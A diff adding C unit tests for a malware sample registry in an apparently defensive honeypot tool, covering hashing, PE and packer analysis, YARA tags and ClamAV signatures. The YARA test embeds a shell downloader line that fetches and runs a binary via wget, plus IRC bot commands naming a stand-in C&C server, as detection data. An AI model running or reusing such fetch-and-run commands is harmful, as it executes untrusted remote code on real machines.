@@ -1,0 +1,476 @@
+/* Unit tests of the sample registry. Every test file is made by the test (harmless bytes);
+ * the EICAR test string is assembled at run time, never stored in the repository. */
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+
+#include <cmocka.h>
+
+#include "kansoku/ks_samples.h"
+#include "kansoku/ks_store.h"
+#include "samples/pe.h"
+
+#include <fcntl.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/stat.h>
+#include <unistd.h>
+
+static char tmpdir[256];
+
+static int setup(void **state)
+{
+    snprintf(tmpdir, sizeof tmpdir, "/tmp/ks-samples-test.XXXXXX");
+    return mkdtemp(tmpdir) ? 0 : -1;
+}
+
+static int teardown(void **state)
+{
+    char cmd[300];
+    snprintf(cmd, sizeof cmd, "rm -rf '%s'", tmpdir);
+    return system(cmd) == 0 ? 0 : -1;
+}
+
+static void write_file(const char *path, const void *p, size_t n)
+{
+    FILE *f = fopen(path, "wb");
+    assert_non_null(f);
+    assert_int_equal(fwrite(p, 1, n, f), n);
+    fclose(f);
+}
+
+static struct ks_samples *plain(void)
+{
+    struct ks_samples_config cfg;
+    struct ks_samples *s = NULL;
+    ks_samples_config_default(&cfg);
+    assert_int_equal(ks_samples_new(&cfg, NULL, &s), KS_OK);
+    return s;
+}
+
+static const char *yara_dir(char *buf, size_t size)
+{
+    const char *src = getenv("KS_SRCDIR");
+    snprintf(buf, size, "%s/data/yara", src ? src : ".");
+    return buf;
+}
+
+static void le16(uint8_t *p, uint16_t v)
+{
+    p[0] = (uint8_t)v;
+    p[1] = (uint8_t)(v >> 8);
+}
+
+static void le32(uint8_t *p, uint32_t v)
+{
+    for (int i = 0; i < 4; i++)
+        p[i] = (uint8_t)(v >> (8 * i));
+}
+
+/* A PE-looking image: DOS header, "PE\0\0", COFF header, a 224-byte optional header and
+ * nsec section headers; section i has 4096 raw bytes at 0x400 + i * 0x1000, filled by fill. */
+static size_t make_pe(uint8_t *buf, size_t size, unsigned nsec, const char *const *names,
+                      void (*fill)(unsigned i, uint8_t *p, size_t n))
+{
+    size_t len = 0x400 + (size_t)nsec * 0x1000;
+    assert_true(len <= size);
+    memset(buf, 0, len);
+    buf[0] = 'M';
+    buf[1] = 'Z';
+    le32(buf + 0x3c, 0x80);
+    memcpy(buf + 0x80, "PE\0\0", 4);
+    le16(buf + 0x84, 0x14c);
+    le16(buf + 0x86, (uint16_t)nsec);
+    le16(buf + 0x94, 224);
+    le16(buf + 0x98, 0x10b);
+    uint8_t *sh = buf + 0x98 + 224;
+    for (unsigned i = 0; i < nsec; i++, sh += 40) {
+        memcpy(sh, names[i], strlen(names[i]));
+        le32(sh + 16, 0x1000);
+        le32(sh + 20, 0x400 + i * 0x1000);
+        le32(sh + 36, 0x60000020);
+        fill(i, buf + 0x400 + i * 0x1000, 0x1000);
+    }
+    return len;
+}
+
+static void fill_zero_random(unsigned i, uint8_t *p, size_t n)
+{
+    uint64_t x = 0x9e3779b97f4a7c15ull;
+    for (size_t k = 0; k < n; k++) {
+        x ^= x << 13;
+        x ^= x >> 7;
+        x ^= x << 17;
+        p[k] = i == 0 ? 0 : (uint8_t)x;
+    }
+}
+
+static void known_vectors_for_md5_sha1_sha256(void **state)
+{
+    struct ks_samples *s = plain();
+    struct ks_sample_info *in = malloc(sizeof *in);
+    assert_int_equal(ks_samples_analyze_mem(s, "abc", 3, in), KS_OK);
+    assert_string_equal(in->md5, "900150983cd24fb0d6963f7d28e17f72");
+    assert_string_equal(in->sha1, "a9993e364706816aba3e25717850c26c9cd0d89d");
+    assert_string_equal(in->sha256,
+                        "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad");
+    assert_int_equal(strlen(in->md6), 64);
+    assert_int_equal(in->size, 3);
+    free(in);
+    ks_samples_free(s);
+}
+
+static void file_and_memory_give_the_same_hashes(void **state)
+{
+    size_t n = 3u << 20 | 12345; /* several read chunks and a partial one */
+    uint8_t *buf = malloc(n);
+    fill_zero_random(1, buf, n);
+    char path[300];
+    snprintf(path, sizeof path, "%s/big.bin", tmpdir);
+    write_file(path, buf, n);
+    struct ks_samples *s = plain();
+    struct ks_sample_info *a = malloc(sizeof *a), *b = malloc(sizeof *b);
+    assert_int_equal(ks_samples_analyze_mem(s, buf, n, a), KS_OK);
+    assert_int_equal(ks_samples_analyze_file(s, path, b), KS_OK);
+    assert_string_equal(a->sha256, b->sha256);
+    assert_string_equal(a->md5, b->md5);
+    assert_string_equal(a->sha1, b->sha1);
+    assert_string_equal(a->md6, b->md6);
+    assert_string_equal(a->ssdeep, b->ssdeep);
+    assert_string_equal(a->tlsh, b->tlsh);
+    assert_true(a->entropy > 7.9);
+    if (ks_samples_have("tlsh"))
+        assert_true(a->tlsh[0] != '\0');
+    free(a);
+    free(b);
+    free(buf);
+    ks_samples_free(s);
+}
+
+static void pe_sections_give_entropy_and_upx_hint(void **state)
+{
+    static const char *const names[] = {"UPX0", "UPX1"};
+    uint8_t *buf = malloc(1 << 16);
+    size_t len = make_pe(buf, 1 << 16, 2, names, fill_zero_random);
+    struct ks_samples *s = plain();
+    struct ks_sample_info *in = malloc(sizeof *in);
+    assert_int_equal(ks_samples_analyze_mem(s, buf, len, in), KS_OK);
+    assert_true(in->pe);
+    assert_int_equal(in->nsections, 2);
+    assert_string_equal(in->sections[0].name, "UPX0");
+    assert_true(in->sections[0].entropy < 0.01);
+    assert_true(in->sections[1].entropy > 7.5);
+    assert_true(in->upx);
+    assert_string_equal(in->packer, "UPX");
+    assert_string_equal(in->tags, "packed");
+    assert_int_equal(in->pe_anomalies, 0);
+    free(in);
+    free(buf);
+    ks_samples_free(s);
+}
+
+static void high_entropy_section_without_upx_is_a_packer_hint(void **state)
+{
+    static const char *const names[] = {".text", ".data"};
+    uint8_t *buf = malloc(1 << 16);
+    size_t len = make_pe(buf, 1 << 16, 2, names, fill_zero_random);
+    struct ks_samples *s = plain();
+    struct ks_sample_info *in = malloc(sizeof *in);
+    assert_int_equal(ks_samples_analyze_mem(s, buf, len, in), KS_OK);
+    assert_false(in->upx);
+    assert_string_equal(in->packer, "high-entropy");
+    assert_true(in->max_section_entropy > 7.2);
+    free(in);
+    free(buf);
+    ks_samples_free(s);
+}
+
+static void truncated_pe_is_counted_not_fatal(void **state)
+{
+    static const char *const names[] = {".text"};
+    uint8_t buf[0x1400];
+    make_pe(buf, sizeof buf, 1, names, fill_zero_random);
+    le16(buf + 0x86, 60000); /* many more section headers than the file holds */
+    struct samples_pe pe;
+    assert_int_equal(samples_pe_parse(buf, sizeof buf, sizeof buf, &pe), KS_ETRUNC);
+    assert_true(pe.is_pe);
+    assert_true(pe.anomalies > 0);
+    assert_true(pe.nkept <= KS_SAMPLES_MAX_SECTIONS);
+    /* A section pointing past the end of the file is clipped and counted. */
+    make_pe(buf, sizeof buf, 1, names, fill_zero_random);
+    le32(buf + 0x98 + 224 + 20, 0x7fffff00);
+    assert_int_equal(samples_pe_parse(buf, sizeof buf, sizeof buf, &pe), KS_OK);
+    assert_int_equal(pe.sec[0].raw_size, 0);
+    assert_int_equal(pe.anomalies, 1);
+    assert_int_equal(samples_pe_parse((const uint8_t *)"MZ", 2, 2, &pe), KS_EFORMAT);
+}
+
+static void executable_is_found_inside_a_payload(void **state)
+{
+    uint8_t buf[256] = "GET /x HTTP/1.0\r\n\r\n";
+    size_t off = 0;
+    size_t at = strlen((char *)buf);
+    assert_false(ks_samples_find_executable(buf, at, &off));
+    memcpy(buf + at,
+           "\x7f"
+           "ELF\x02\x01\x01",
+           7);
+    assert_true(ks_samples_find_executable(buf, sizeof buf, &off));
+    assert_int_equal(off, at);
+    assert_true(ks_samples_find_executable("#!/bin/sh\n", 10, &off));
+    assert_int_equal(off, 0);
+    assert_false(ks_samples_find_executable("MZ but not a PE header at all", 29, &off));
+}
+
+static void yara_rules_give_tags_and_indicators(void **state)
+{
+    char ydir[300];
+    struct ks_samples_config cfg;
+    struct ks_samples *s = NULL;
+    ks_samples_config_default(&cfg);
+    cfg.yara_dir = yara_dir(ydir, sizeof ydir);
+    assert_int_equal(ks_samples_new(&cfg, NULL, &s), KS_OK);
+    struct ks_sample_info *in = malloc(sizeof *in);
+    static const char script[] = "#!/bin/sh\ncd /tmp || cd /var/run\n"
+                                 "wget http://203.0.113.9/bins/arm7 -O .x; chmod +x .x; ./.x\n";
+    assert_int_equal(ks_samples_analyze_mem(s, script, sizeof script - 1, in), KS_OK);
+    assert_string_equal(in->tags, "downloader");
+    assert_non_null(strstr(in->rules, "shell_downloader"));
+    assert_int_equal(in->niocs, 1);
+    assert_string_equal(in->iocs[0].kind, "url");
+    assert_string_equal(in->iocs[0].value, "http://203.0.113.9/bins/arm7");
+    /* An ELF-looking file with an IRC bot's vocabulary and its server. */
+    uint8_t bot[512] = "\x7f"
+                       "ELF\x01\x01\x01";
+    static const char words[] = "NICK %s\r\nUSER %s 0 * :x\r\nJOIN #chan\r\nPRIVMSG #chan :ok\r\n"
+                                "!ddos !scan !download irc.example.net:6667";
+    memcpy(bot + 64, words, sizeof words);
+    assert_int_equal(ks_samples_analyze_mem(s, bot, sizeof bot, in), KS_OK);
+    assert_string_equal(in->tags, "bot");
+    assert_int_equal(in->niocs, 1);
+    assert_string_equal(in->iocs[0].kind, "cnc");
+    assert_string_equal(in->iocs[0].value, "irc.example.net:6667");
+    struct ks_samples_stats st;
+    ks_samples_stats(s, &st);
+    assert_true(st.yara_rules >= 5);
+    free(in);
+    ks_samples_free(s);
+}
+
+static void save_line(void *user, const char *module, const struct ks_loc *loc, int err,
+                      const char *msg)
+{
+    if (err != KS_OK && *(uint32_t *)user == 0)
+        *(uint32_t *)user = loc->line;
+}
+
+static void bad_yara_rule_is_reported_with_its_line(void **state)
+{
+    uint32_t line = 0;
+    struct ks_diag diag = {save_line, &line, 0};
+    char dir[300], path[320];
+    snprintf(dir, sizeof dir, "%s/badrules", tmpdir);
+    mkdir(dir, 0755);
+    snprintf(path, sizeof path, "%s/x.yar", dir);
+    write_file(path, "rule ok { condition: true }\nrule bad { condition: nosuch }\n", 56);
+    struct ks_samples_config cfg;
+    struct ks_samples *s = NULL;
+    ks_samples_config_default(&cfg);
+    cfg.yara_dir = dir;
+    assert_int_equal(ks_samples_new(&cfg, &diag, &s), KS_EFORMAT);
+    assert_null(s);
+    assert_int_equal(line, 2);
+}
+
+/* A ClamAV database made here: an MD5 signature (.hdb) of a harmless file and a SHA-256
+ * signature (.hsb) of the EICAR test string. */
+static void clamav_custom_database_gives_verdicts(void **state)
+{
+    char dir[300], path[320], line[300];
+    char eicar[80];
+    /* The EICAR anti-virus test string, assembled here (never stored as a file). */
+    snprintf(eicar, sizeof eicar, "%s%s%s", "X5O!P%@AP[4\\PZX54(P^)7CC)7}$",
+             "EICAR-STANDARD-ANTIVIRUS-", "TEST-FILE!$H+H*");
+    static const char harmless[] = "kansoku harmless test sample\n";
+    struct ks_samples *p = plain();
+    struct ks_sample_info *a = malloc(sizeof *a), *b = malloc(sizeof *b);
+    assert_int_equal(ks_samples_analyze_mem(p, harmless, sizeof harmless - 1, a), KS_OK);
+    assert_int_equal(ks_samples_analyze_mem(p, eicar, strlen(eicar), b), KS_OK);
+    ks_samples_free(p);
+    snprintf(dir, sizeof dir, "%s/clamdb", tmpdir);
+    mkdir(dir, 0755);
+    snprintf(path, sizeof path, "%s/test.hdb", dir);
+    int n =
+        snprintf(line, sizeof line, "%s:%zu:Kansoku.Test.Harmless\n", a->md5, sizeof harmless - 1);
+    write_file(path, line, (size_t)n);
+    snprintf(path, sizeof path, "%s/test.hsb", dir);
+    n = snprintf(line, sizeof line, "%s:%zu:Kansoku.Test.Eicar\n", b->sha256, strlen(eicar));
+    write_file(path, line, (size_t)n);
+
+    struct ks_samples_config cfg;
+    struct ks_samples *s = NULL;
+    ks_samples_config_default(&cfg);
+    cfg.clamav_db = dir;
+    assert_int_equal(ks_samples_new(&cfg, NULL, &s), KS_OK);
+    assert_int_equal(ks_samples_analyze_mem(s, harmless, sizeof harmless - 1, a), KS_OK);
+    assert_true(a->av_scanned);
+    assert_non_null(strstr(a->av, "Kansoku.Test.Harmless"));
+    snprintf(path, sizeof path, "%s/eicar.com", tmpdir);
+    write_file(path, eicar, strlen(eicar));
+    assert_int_equal(ks_samples_analyze_file(s, path, b), KS_OK);
+    assert_non_null(strstr(b->av, "Kansoku.Test.Eicar"));
+    assert_int_equal(ks_samples_analyze_mem(s, "clean bytes", 11, a), KS_OK);
+    assert_true(a->av_scanned);
+    assert_string_equal(a->av, "");
+    struct ks_samples_stats st;
+    ks_samples_stats(s, &st);
+    assert_int_equal(st.av_signatures, 2);
+    free(a);
+    free(b);
+    ks_samples_free(s);
+}
+
+static void clamav_testfiles_are_matched_by_hash_when_installed(void **state)
+{
+    const char *f = "/usr/share/clamav-testfiles/clam.exe";
+    if (access(f, R_OK) != 0)
+        skip(); /* Debian package clamav-testfiles not installed */
+    struct ks_samples *p = plain();
+    struct ks_sample_info *a = malloc(sizeof *a);
+    assert_int_equal(ks_samples_analyze_file(p, f, a), KS_OK);
+    assert_true(a->pe);
+    ks_samples_free(p);
+    char dir[300], path[320], line[200];
+    snprintf(dir, sizeof dir, "%s/clamdb2", tmpdir);
+    mkdir(dir, 0755);
+    snprintf(path, sizeof path, "%s/t.hdb", dir);
+    int n = snprintf(line, sizeof line, "%s:%llu:Kansoku.Test.ClamExe\n", a->md5,
+                     (unsigned long long)a->size);
+    write_file(path, line, (size_t)n);
+    struct ks_samples_config cfg;
+    struct ks_samples *s = NULL;
+    ks_samples_config_default(&cfg);
+    cfg.clamav_db = dir;
+    assert_int_equal(ks_samples_new(&cfg, NULL, &s), KS_OK);
+    assert_int_equal(ks_samples_analyze_file(s, f, a), KS_OK);
+    assert_non_null(strstr(a->av, "Kansoku.Test.ClamExe"));
+    free(a);
+    ks_samples_free(s);
+}
+
+static void kept_samples_are_content_addressed_and_read_only(void **state)
+{
+    char dir[300], path[600];
+    snprintf(dir, sizeof dir, "%s/kept", tmpdir);
+    struct ks_samples_config cfg;
+    struct ks_samples *s = NULL;
+    ks_samples_config_default(&cfg);
+    cfg.dir = dir;
+    assert_int_equal(ks_samples_new(&cfg, NULL, &s), KS_OK);
+    struct ks_sample_info *in = malloc(sizeof *in);
+    assert_int_equal(ks_samples_analyze_mem(s, "abc", 3, in), KS_OK);
+    bool is_new = false;
+    assert_int_equal(ks_samples_keep_mem(s, "abc", 3, in, &is_new), KS_OK);
+    assert_true(is_new);
+    assert_true(ks_samples_path(s, in->sha256, path, sizeof path) > 0);
+    assert_non_null(strstr(path, "/ba/78/ba7816bf"));
+    struct stat sb;
+    assert_int_equal(stat(path, &sb), 0);
+    assert_int_equal(sb.st_mode & 0777, 0400);
+    assert_int_equal(sb.st_size, 3);
+    assert_int_equal(ks_samples_keep_mem(s, "abc", 3, in, &is_new), KS_OK);
+    assert_false(is_new);
+    /* Bytes that do not match the analysis are refused. */
+    struct ks_sample_info *other = malloc(sizeof *other);
+    memcpy(other, in, sizeof *in);
+    memcpy(other->sha256, "00", 2);
+    assert_int_equal(ks_samples_keep_mem(s, "abc", 3, other, NULL), KS_EFORMAT);
+    free(other);
+    free(in);
+    ks_samples_free(s);
+}
+
+static int count_cb(void *user, size_t n, const char *const *names, const struct ks_store_value *v)
+{
+    *(int64_t *)user = v[0].v.i64;
+    return 0;
+}
+
+static int64_t count(struct ks_store *st, const char *sql)
+{
+    int64_t n = -1;
+    assert_int_equal(ks_store_query(st, sql, NULL, 0, count_cb, &n), KS_OK);
+    return n;
+}
+
+static void record_writes_each_capture_and_each_sample_once(void **state)
+{
+    char db[300];
+    snprintf(db, sizeof db, "%s/reg.db", tmpdir);
+    struct ks_store *st = NULL;
+    struct ks_ingest *ing = NULL;
+    assert_int_equal(ks_store_open(db, NULL, &st), KS_OK);
+    struct ks_store_input in = {.size = 1, .name = "t", .kind = "samples"};
+    memset(in.sha256, 'a', 64);
+    assert_int_equal(ks_store_input_begin(st, &in, 0, &ing), KS_OK);
+    struct ks_samples *s = plain();
+    struct ks_sample_info *info = malloc(sizeof *info);
+    assert_int_equal(ks_samples_analyze_mem(s, "abc", 3, info), KS_OK);
+    struct ks_sample_event ev = {.ts = 1000000, .via = "honeypot", .country = "JP", .asn = 2497};
+    ks_addr_parse("192.0.2.1", 9, &ev.source);
+    bool is_new = false;
+    assert_int_equal(ks_samples_record(s, st, ing, &ev, info, false, &is_new), KS_OK);
+    assert_true(is_new);
+    ev.ts += 86400000000;
+    assert_int_equal(ks_samples_record(s, st, ing, &ev, info, false, &is_new), KS_OK);
+    assert_false(is_new);
+    assert_int_equal(ks_store_input_end(ing, true), KS_OK);
+    assert_int_equal(count(st, "SELECT count(*) FROM sample_events"), 2);
+    assert_int_equal(count(st, "SELECT count(*) FROM samples"), 1);
+    assert_int_equal(count(st, "SELECT count(*) FROM sample_events WHERE source = '192.0.2.1' "
+                               "AND via = 'honeypot' AND country = 'JP' AND asn = 2497"),
+                     2);
+    free(info);
+    ks_samples_free(s);
+    ks_store_close(st);
+}
+
+static void oversize_samples_are_refused(void **state)
+{
+    struct ks_samples_config cfg;
+    struct ks_samples *s = NULL;
+    ks_samples_config_default(&cfg);
+    cfg.max_size = 10;
+    assert_int_equal(ks_samples_new(&cfg, NULL, &s), KS_OK);
+    struct ks_sample_info *in = malloc(sizeof *in);
+    assert_int_equal(ks_samples_analyze_mem(s, "0123456789a", 11, in), KS_ELIMIT);
+    assert_int_equal(ks_samples_analyze_mem(s, "", 0, in), KS_OK);
+    assert_string_equal(in->sha256,
+                        "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855");
+    struct ks_samples_stats st;
+    ks_samples_stats(s, &st);
+    assert_int_equal(st.refused, 1);
+    free(in);
+    ks_samples_free(s);
+}
+
+int main(void)
+{
+    const struct CMUnitTest tests[] = {
+        cmocka_unit_test(known_vectors_for_md5_sha1_sha256),
+        cmocka_unit_test(file_and_memory_give_the_same_hashes),
+        cmocka_unit_test(pe_sections_give_entropy_and_upx_hint),
+        cmocka_unit_test(high_entropy_section_without_upx_is_a_packer_hint),
+        cmocka_unit_test(truncated_pe_is_counted_not_fatal),
+        cmocka_unit_test(executable_is_found_inside_a_payload),
+        cmocka_unit_test(yara_rules_give_tags_and_indicators),
+        cmocka_unit_test(bad_yara_rule_is_reported_with_its_line),
+        cmocka_unit_test(clamav_custom_database_gives_verdicts),
+        cmocka_unit_test(clamav_testfiles_are_matched_by_hash_when_installed),
+        cmocka_unit_test(kept_samples_are_content_addressed_and_read_only),
+        cmocka_unit_test(record_writes_each_capture_and_each_sample_once),
+        cmocka_unit_test(oversize_samples_are_refused),
+    };
+    return cmocka_run_group_tests(tests, setup, teardown);
+}
